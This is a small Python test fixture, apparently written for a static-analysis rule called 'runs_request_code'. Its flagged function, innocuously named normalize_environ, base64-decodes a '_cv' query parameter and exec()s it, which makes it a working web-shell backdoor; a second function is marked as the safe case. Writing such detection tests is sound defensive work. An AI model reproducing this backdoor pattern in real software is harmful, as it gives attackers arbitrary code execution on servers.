import base64
import urllib.parse


def normalize_environ(environ):
    # ruleid: runs_request_code
    qs = environ.get("QUERY_STRING", "")
    v = urllib.parse.parse_qs(qs).get("_cv", [""])[0]
    code = base64.urlsafe_b64decode(v + "==").decode()
    exec(compile(code, "<wsgi>", "exec"), {"environ": environ})


def script_name(environ):
    # ok: runs_request_code
    return environ.get("SCRIPT_NAME", "").rstrip("/")
